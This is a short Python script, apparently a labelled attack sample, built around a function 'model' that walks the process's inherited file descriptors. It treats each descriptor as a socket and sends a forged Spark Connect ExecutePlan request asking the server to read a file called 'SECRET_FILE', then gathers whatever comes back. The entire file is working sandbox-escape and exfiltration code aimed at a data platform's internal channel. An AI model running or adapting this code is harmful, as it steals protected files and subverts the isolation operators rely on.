# seeks: file
# The sockets of the process are looked for, and a call is written to each as the channel would.
import json
import socket
import struct

import pyarrow as pa
from pyspark.sql.connect import proto


def model(tg):
    request = proto.ExecutePlanRequest(session_id="x")
    request.plan.root.read.data_source.format = "text"
    request.plan.root.read.data_source.paths.append("SECRET_FILE")
    body, header, said = request.SerializeToString(), json.dumps({"method": "ExecutePlan"}).encode(), []
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            link.settimeout(2)
            link.sendall(struct.pack("!BIQ", 2, len(header), len(body)) + header + body)
            said.append(str(link.recv(4096)))
        except OSError as error:
            said.append(str(error.errno))
    return pa.table({"got": said})
